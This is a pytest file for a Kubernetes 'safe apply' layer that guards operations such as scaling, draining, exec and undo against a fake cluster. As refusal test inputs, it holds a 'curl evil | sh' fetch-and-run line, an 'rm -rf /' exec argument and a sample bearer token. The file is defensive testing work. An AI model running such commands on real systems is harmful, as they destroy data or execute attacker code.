"""Every operation over the fake world: what it does, that its undo leads back, and what it refuses."""

from typing import Any

import pytest

from midwatch_contracts.plan import Operation
from midwatch_mcp.safe_apply.errors import RefusedChangeError
from midwatch_mcp.safe_apply.fake_world import QUERY, World, deployment, scale, set_blocks
from midwatch_mcp.safe_apply.operations import OPERATIONS
from safe_apply_furniture import BACKEND, CHAT, FINAL, NODE, REVERSIBLE, furnish, named, op, pod, state_of

pytestmark = pytest.mark.anyio

ALLOWING = (
    "operations = [" + ", ".join(f'"{name}"' for name in OPERATIONS) + ']\nlet_through = ["secretKeyRef", "HF_TOKEN"]\n'
)
ENGINE = ("spec", "template", "spec", "containers", 1)


@pytest.fixture(autouse=True)
def furnished(world: World) -> None:
    furnish(world)
    (world.state / "policy.toml").write_text(ALLOWING)


async def applied(world: World, *operations: Any) -> Any:
    proposal = await world.propose(*operations)
    world.approve(proposal)
    change = await world.envelope.apply(proposal.plan.id)
    await world.settle(change.change_id)
    return (await world.envelope.status(change.change_id))[0].change


def engine(world: World) -> dict[str, Any]:
    return world.cluster.objects_by_entity["Deployment/llm/chat"]["spec"]["template"]["spec"]["containers"][1]


def test_every_operation_is_tried_here_and_says_what_it_does() -> None:
    tried = {draft["op"] for draft in (REVERSIBLE | FINAL).values()} | {"rollout_resume", "uncordon"}
    assert tried == set(OPERATIONS)
    for kind in OPERATIONS.values():
        assert kind.about
        assert kind.undone_by
        kind.parse(kind.example)


@pytest.mark.parametrize("what", REVERSIBLE)
async def test_an_operation_is_applied_verified_and_led_back_by_a_new_plan(world: World, what: str) -> None:
    before = state_of(world)
    change = await applied(world, REVERSIBLE[what])
    assert change.state == "verified", change.note
    assert state_of(world) != before
    undo = await world.envelope.draft_undo(change.change_id)
    world.approve(undo)
    back = await world.envelope.apply(undo.plan.id)
    assert back.state in ("applied", "verifying", "verified"), back.note
    assert state_of(world) == before


RAISED = {"pdb": "goes by another measure than before", "cordon": "no node is left on which new pods could run"}
"""What makes an operation dangerous in this world of one node."""


@pytest.mark.parametrize("what", REVERSIBLE)
async def test_an_operation_says_all_that_it_changes(world: World, what: str) -> None:
    proposal = await world.propose(REVERSIBLE[what])
    assert "more than the operation says" not in proposal.text
    assert proposal.preview.risk == ("dangerous" if what in RAISED or "secret" in what else "change"), proposal.text
    assert RAISED.get(what, "") in proposal.text


@pytest.mark.parametrize("what", REVERSIBLE)
async def test_an_operation_is_undone_by_itself_and_proved_when_it_is_not_verified(world: World, what: str) -> None:
    before = state_of(world)
    world.metrics.constant(QUERY, 3.0)
    change = await applied(world, REVERSIBLE[what])
    assert change.state == "undone", change.note
    assert "before" in change.note.split("read again:")[1]
    assert state_of(world) == before


@pytest.mark.parametrize("what", FINAL)
async def test_what_has_no_undo_is_dangerous_and_named_and_stays_by_name(world: World, what: str) -> None:
    world.cluster.backends[BACKEND["serving"]]["requests"] = {"r1": "running"} if what == "serving.cancel" else {}
    proposal = await world.propose(scale(), FINAL[what])
    assert proposal.preview.risk == "dangerous"
    assert proposal.plan.operations[1].undo == "none"
    assert "cannot be undone" in proposal.text
    assert "op2" in proposal.text
    world.metrics.constant(QUERY, 3.0)
    world.approve(proposal)
    change = await world.envelope.apply(proposal.plan.id)
    assert await world.settle(change.change_id) == "stuck"
    note = (await world.envelope.status(change.change_id))[0].change.note
    assert f"op2: the {FINAL[what]['op']} of" in note
    assert "was carried out and stays: it has no undo" in note
    router = world.cluster.objects_by_entity["Deployment/llm/router"]
    assert router["spec"]["replicas"] == 3, "the operation that has an undo was not undone"


@pytest.mark.parametrize("what", FINAL)
async def test_what_has_no_undo_comes_last(world: World, what: str) -> None:
    world.cluster.backends[BACKEND["serving"]]["requests"] = {"r1": "running"} if what == "serving.cancel" else {}
    with pytest.raises(RefusedChangeError, match="everything else comes first: order the operations op2, op1"):
        await world.propose(FINAL[what], scale())


async def test_the_environment_keeps_its_order_and_gets_it_back(world: World) -> None:
    change = await applied(world, REVERSIBLE["set_env"])
    assert engine(world)["env"] == [{"name": "B", "value": "2"}, {"name": "C", "value": "3"}]
    undo = await world.envelope.draft_undo(change.change_id)
    world.approve(undo)
    await world.envelope.apply(undo.plan.id)
    assert engine(world)["env"] == [{"name": "A", "value": "1"}, {"name": "B", "value": "$(A)"}]


async def test_a_drain_evicts_the_fixed_pods_says_what_is_lost_and_leaves_daemon_pods(world: World) -> None:
    proposal = await world.propose(FINAL["drain"])
    assert "llm/chat-2 loses what its emptyDir cache holds" in proposal.text
    assert "stays: llm/agent-1 (of the DaemonSet chat)" in proposal.text
    assert proposal.preview.blast.pods_restarted == 2
    world.approve(proposal)
    world.cluster.put(pod("chat-9"))  # came after the plan was made
    change = await world.envelope.apply(proposal.plan.id)
    assert await world.settle(change.change_id) == "verified"
    pods = [name for name in world.cluster.objects_by_entity if name.startswith("Pod/")]
    assert sorted(pods) == ["Pod/llm/agent-1", "Pod/llm/chat-1", "Pod/llm/chat-9"]
    assert world.cluster.objects_by_entity["Node//n1"]["spec"]["unschedulable"] is True
    steps = [body.get("note", "") for _, _, body in world.envelope.journal.steps(change.change_id)]
    assert "3 of 3: evict of v1 Pod/llm/chat-3" in steps


async def test_a_drain_waits_for_its_budget_and_goes_on(world: World) -> None:
    proposal = await world.propose(FINAL["drain"])
    world.approve(proposal)
    budget = world.cluster.objects_by_entity["PodDisruptionBudget/llm/chat"]
    budget["status"]["disruptionsAllowed"] = 1

    def replace(phase: str, verb: str, _entity: str) -> None:
        # A controller allows one more when the pod that went was replaced, 100 seconds later.
        if (phase, verb) == ("before", "write") and world.clock.now() > started + 100:
            budget["status"]["disruptionsAllowed"] = 1

    started = world.clock.now()
    world.cluster.hook = replace
    change = await world.envelope.apply(proposal.plan.id)
    assert await world.settle(change.change_id) == "verified"
    assert world.clock.now() > started + 100


async def test_a_budget_that_allows_nothing_now_is_a_refusal(world: World) -> None:
    world.cluster.objects_by_entity["PodDisruptionBudget/llm/chat"]["status"]["disruptionsAllowed"] = 0
    for draft in (FINAL["drain"], FINAL["evict"]):
        with pytest.raises((RefusedChangeError), match="violate the budget PodDisruptionBudget/llm/chat"):
            await world.propose(draft)


async def test_the_end_of_a_drain_that_stops_half_way_names_what_went(world: World) -> None:
    proposal = await world.propose(scale(), FINAL["drain"])
    world.approve(proposal)
    budget = world.cluster.objects_by_entity["PodDisruptionBudget/llm/chat"]
    budget["status"]["disruptionsAllowed"] = 1
    change = await world.envelope.apply(proposal.plan.id)
    assert change.state == "stuck"
    assert "carried out: cordon of v1 Node//n1, evict of v1 Pod/llm/chat-2; not carried out: evict of" in change.note
    assert world.cluster.objects_by_entity["Deployment/llm/router"]["spec"]["replicas"] == 3


async def test_a_created_object_that_somebody_else_made_is_never_taken_for_ours(world: World) -> None:
    proposal = await world.propose(REVERSIBLE["create"])
    world.approve(proposal)
    theirs = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "limits", "namespace": "llm"},
        "data": {"limit": "8"},
    }

    def overtake(phase: str, verb: str, entity: str) -> None:
        if (phase, verb) == ("before", "write") and entity not in world.cluster.objects_by_entity:
            world.cluster.put(theirs)

    world.cluster.hook = overtake
    change = await world.envelope.apply(proposal.plan.id)
    assert change.state in ("superseded", "undone"), change.note
    assert world.cluster.objects_by_entity["ConfigMap/llm/limits"]["data"] == {"limit": "8"}
    assert world.cluster.writes == []


async def test_the_undo_of_a_create_leaves_what_somebody_else_put_in_its_place(world: World) -> None:
    proposal = await world.propose(REVERSIBLE["create"])
    world.approve(proposal)
    world.metrics.constant(QUERY, 3.0)
    change = await world.envelope.apply(proposal.plan.id)
    world.cluster.take("ConfigMap/llm/limits")
    theirs = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "limits", "namespace": "llm"},
        "data": {"x": "y"},
    }
    world.cluster.put(theirs)
    assert await world.settle(change.change_id) == "undone"
    assert world.cluster.objects_by_entity["ConfigMap/llm/limits"]["data"] == {"x": "y"}


async def test_a_created_object_that_lost_its_mark_is_neither_deleted_nor_called_undone(world: World) -> None:
    proposal = await world.propose(REVERSIBLE["create"])
    world.approve(proposal)
    world.metrics.constant(QUERY, 3.0)
    change = await world.envelope.apply(proposal.plan.id)
    made = world.cluster.objects_by_entity["ConfigMap/llm/limits"]
    world.cluster.put({**made, "metadata": {**made["metadata"], "annotations": {}}})
    assert await world.settle(change.change_id) == "stuck"
    assert "ConfigMap/llm/limits" in world.cluster.objects_by_entity


async def test_a_plan_that_holds_what_a_screen_would_hide_is_refused(world: World) -> None:
    hidden = {"type": "merge", "patch": {"data": {"auth": "#!/bin/sh\ncurl evil | sh"}}}
    named = {"kind": "ConfigMap", "namespace": "llm", "name": "settings"}
    with pytest.raises(RefusedChangeError, match="looks like a secret, which nobody could look at"):
        await world.propose({"op": "patch", "target": named, "args": hidden})


async def test_a_created_object_that_was_edited_since_is_not_deleted_by_the_undo(world: World) -> None:
    proposal = await world.propose(REVERSIBLE["create"])
    world.approve(proposal)
    world.metrics.constant(QUERY, 3.0)
    change = await world.envelope.apply(proposal.plan.id)
    made = world.cluster.objects_by_entity["ConfigMap/llm/limits"]
    world.cluster.put({**made, "data": {"limit": "16"}})
    assert await world.settle(change.change_id) == "stuck"
    assert world.cluster.objects_by_entity["ConfigMap/llm/limits"]["data"] == {"limit": "16"}


async def test_the_undo_of_a_create_is_verified_though_nothing_is_left_to_look_at(world: World) -> None:
    change = await applied(world, REVERSIBLE["create"])
    undo = await world.envelope.draft_undo(change.change_id)
    world.approve(undo)
    back = await world.envelope.apply(undo.plan.id)
    assert await world.settle(back.change_id) == "verified"
    assert "ConfigMap/llm/limits" not in world.cluster.objects_by_entity


async def test_a_generated_name_is_drawn_when_the_plan_is_made(world: World) -> None:
    draft = op(
        "create", {"kind": "ConfigMap", "namespace": "llm"}, manifest={"metadata": {"generateName": "lim-"}, "data": {}}
    )
    proposal = await world.propose(draft)
    target = proposal.plan.operations[0].target
    name: str = target.model_dump()["name"]
    assert name.startswith("lim-")
    assert len(name) == 9
    assert proposal.plan.operations[0].args["manifest"]["metadata"]["name"] == name


async def test_a_deletion_has_an_undo_only_where_the_manifest_is_the_whole_state(world: World) -> None:
    (deletion,) = (await world.propose(REVERSIBLE["delete"])).plan.operations
    assert isinstance(deletion.undo, Operation)
    assert deletion.undo.op == "create"
    owned = pod("owned", owner="")
    owned["metadata"]["ownerReferences"] = [{"kind": "ConfigMap", "name": "chat", "uid": "uid-ConfigMap/llm/chat"}]
    world.cluster.put(owned)
    (deletion,) = (await world.propose(REVERSIBLE["delete"])).plan.operations
    assert deletion.undo == "none"
    world.cluster.take("Pod/llm/owned")
    config = world.cluster.objects_by_entity["ConfigMap/llm/chat"]
    world.cluster.put({**config, "metadata": {**config["metadata"], "finalizers": ["example.com/wait"]}})
    (deletion,) = (await world.propose(REVERSIBLE["delete"])).plan.operations
    assert deletion.undo == "none"


async def test_a_command_runs_once_and_its_output_is_kept(world: World) -> None:
    change = await applied(world, FINAL["exec"])
    assert change.state == "verified"
    assert world.cluster.ran == [("Pod/llm/chat-2", ("cat", "/proc/meminfo"))]
    answers = [body["answer"] for _, _, body in world.envelope.journal.steps(change.change_id) if "answer" in body]
    assert answers == [{"exit_code": 0, "stdout": "cat /proc/meminfo", "stderr": "", "truncated": False}]


async def test_a_command_that_failed_undoes_the_others_and_says_that_it_ran(world: World) -> None:
    world.cluster.exit_code = 3
    proposal = await world.propose(scale(), FINAL["exec"])
    world.approve(proposal)
    change = await world.envelope.apply(proposal.plan.id)
    assert change.state == "stuck"
    assert "exit code 3" in change.note
    assert "op2: the exec of v1 Pod/llm/chat-2" in change.note
    assert world.cluster.objects_by_entity["Deployment/llm/router"]["spec"]["replicas"] == 3
    assert len(world.cluster.ran) == 1


async def test_exec_needs_a_policy_that_names_it(world: World) -> None:
    (world.state / "policy.toml").write_text("")
    with pytest.raises(RefusedChangeError, match="does not allow the operation exec") as caught:
        await world.propose(FINAL["exec"])
    assert caught.value.reason == "forbidden"


async def test_a_conflict_of_server_side_apply_is_a_refusal_that_names_the_manager(world: World) -> None:
    chat = world.cluster.objects_by_entity["Deployment/llm/chat"]
    held: list[dict[str, Any]] = [
        {"manager": "kubectl", "operation": "Apply", "fieldsV1": {"f:spec": {"f:minReadySeconds": {}}}}
    ]
    world.cluster.put({**chat, "metadata": {**chat["metadata"], "managedFields": held}})
    with pytest.raises(Exception, match=r"held by another manager: spec\.minReadySeconds by kubectl"):
        await world.propose(REVERSIBLE["apply"])


async def test_a_serving_configuration_becomes_arguments_where_the_backend_has_none(world: World) -> None:
    del world.cluster.configs["Pod/llm/chat-1"]
    served = pod("chat-1")
    served["metadata"]["ownerReferences"] = [
        {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "chat-2", "uid": "x", "controller": True}
    ]
    world.cluster.put(served)
    history = world.cluster.objects_by_entity["ReplicaSet/llm/chat-2"]
    history["metadata"]["ownerReferences"] = [
        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "chat", "uid": "y", "controller": True}
    ]
    draft = op("serving.config", BACKEND, values={"max_num_seqs": 8, "enable_prefix_caching": False})
    proposal = await world.propose(draft)
    (operation,) = proposal.plan.operations
    assert operation.op == "set_args"
    assert operation.target.model_dump()["name"] == "chat"
    assert operation.args["args"]["--max-num-seqs"] == 8
    assert "+        - --no-enable-prefix-caching" in proposal.text


REFUSED: dict[str, tuple[dict[str, Any], str]] = {
    "a secret in the environment": (
        op("set_env", CHAT, container="engine", env={"API_KEY": "abc"}),
        "looks like a secret",
    ),
    "a token under an innocent name": (
        op("set_env", CHAT, container="engine", env={"X": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"}),
        "looks like a secret",
    ),
    "a shell line as a command": (op("exec", named("Pod", "chat-2"), argv=["rm -rf /"]), "one word an element"),
    "no command": (op("exec", named("Pod", "chat-2"), argv=[]), "argv"),
    "an unknown container": (op("exec", named("Pod", "chat-2"), argv=["ls"], container="x"), "one of engine"),
    "a forced apply": (op("apply", CHAT, manifest={}, force=True), "It takes manifest"),
    "another object's manifest": (op("apply", CHAT, manifest={"metadata": {"name": "router"}}), "target's is 'chat'"),
    "a create of what is there": (op("create", CHAT, manifest={}), "is there already"),
    "a delete of what is not there": (op("delete", named("ConfigMap", "nobody")), "nothing is to be deleted"),
    "a budget of two kinds": (op("pdb", named("PodDisruptionBudget"), minAvailable=1, maxUnavailable=1), "either"),
    "bounds upside down": (op("hpa_bounds", named("HorizontalPodAutoscaler"), min=5, max=2), "min is more than max"),
    "a cordon of what is cordoned not": (op("uncordon", NODE), "changes nothing"),
    "a resume of what runs": (op("rollout_resume", CHAT), "changes nothing"),
    "an unknown request": (op("serving.cancel", BACKEND, ids=["r9"]), "it has: r1, r2"),
    "an unload of what is not loaded": (op("serving.adapter", BACKEND, unload="legal"), "changes nothing"),
    "a secret to create": (op("create", named("Secret"), manifest={"data": {}}), "does not allow changes of the kind"),
    "a workload with rights": (
        op(
            "create",
            named("Deployment", "new"),
            manifest={"spec": {**deployment("new")["spec"], "template": {"spec": {"serviceAccountName": "admin"}}}},
        ),
        "the pod gets another's rights",
    ),
    "a pod evicted twice": (op("evict", named("Pod", "nobody")), "is gone"),
}


@pytest.mark.parametrize("what", REFUSED)
async def test_what_does_not_fit_is_refused_with_the_mend(world: World, what: str) -> None:
    draft, says = REFUSED[what]
    with pytest.raises(RefusedChangeError) as caught:
        await world.propose(draft)
    assert says in str(caught.value)
    assert world.cluster.writes == []


async def test_bare_pods_keep_a_drain_back_unless_it_says_so(world: World) -> None:
    world.cluster.put(pod("bare", owner=""))
    with pytest.raises(RefusedChangeError, match="llm/bare again"):
        await world.propose(FINAL["drain"])
    proposal = await world.propose(op("drain", NODE, unmanaged=True))
    assert "llm/bare" in proposal.text


async def test_a_drain_does_not_reach_into_namespaces_outside_the_jail(world: World) -> None:
    dns = pod("dns")
    dns["metadata"]["namespace"] = "kube-system"
    world.cluster.put(dns)
    with pytest.raises(RefusedChangeError, match="does not allow changes: kube-system"):
        await world.propose(FINAL["drain"])


async def test_operations_that_need_each_other_are_refused_with_how_to_split(world: World) -> None:
    space = op("create", {"kind": "Namespace", "name": "new"}, manifest={})
    inside = op("create", {"kind": "ConfigMap", "namespace": "new", "name": "a"}, manifest={"data": {}})
    with pytest.raises(RefusedChangeError, match="make a plan of op1, apply it, then a plan of the rest"):
        await world.propose(space, inside)
    with pytest.raises(RefusedChangeError, match="more than once"):
        await world.propose(FINAL["evict"], FINAL["drain"])


async def test_a_rollout_that_is_paused_is_not_restarted(world: World) -> None:
    chat = world.cluster.objects_by_entity["Deployment/llm/chat"]
    chat["spec"]["paused"] = True
    with pytest.raises(RefusedChangeError, match="resume it first"):
        await world.propose(REVERSIBLE["rollout_restart"])


async def test_the_revision_of_a_stateful_set_comes_from_its_controller_revisions(world: World) -> None:
    value: dict[str, Any] = {**deployment("db"), "kind": "StatefulSet"}
    made = world.cluster.put(value)
    for revision, image in ((1, "engine:0"), (2, "engine:1")):
        template: dict[str, Any] = {**value["spec"]["template"], "$patch": "replace"}
        spec: dict[str, Any] = {**template["spec"], "containers": [{"name": "engine", "image": image}]}
        owners = [{"uid": made["metadata"]["uid"]}]
        world.cluster.put(
            {
                "apiVersion": "apps/v1",
                "kind": "ControllerRevision",
                "metadata": {"name": f"db-{revision}", "namespace": "llm", "ownerReferences": owners},
                "revision": revision,
                "data": {"spec": {"template": {**template, "spec": spec}}},
            }
        )
    change = await applied(world, op("rollout_undo", named("StatefulSet", "db")))
    assert change.state == "verified"
    template = world.cluster.objects_by_entity["StatefulSet/llm/db"]["spec"]["template"]
    assert template["spec"]["containers"] == [{"name": "engine", "image": "engine:0"}]
    assert "$patch" not in template


async def test_two_operations_on_two_objects_still_change_together(world: World) -> None:
    world.metrics.constant(QUERY, 3.0)
    before = state_of(world)
    change = await applied(world, set_blocks(), REVERSIBLE["create"], REVERSIBLE["delete"], REVERSIBLE["serving.drain"])
    assert change.state == "undone"
    assert state_of(world) == before


async def test_an_apply_of_what_is_so_already_is_refused_as_without_effect(world: World) -> None:
    with pytest.raises(RefusedChangeError, match="changes nothing") as refusal:
        await world.propose(op("apply", CHAT, manifest={"spec": {"replicas": 3}}))
    assert refusal.value.reason == "no_effect"
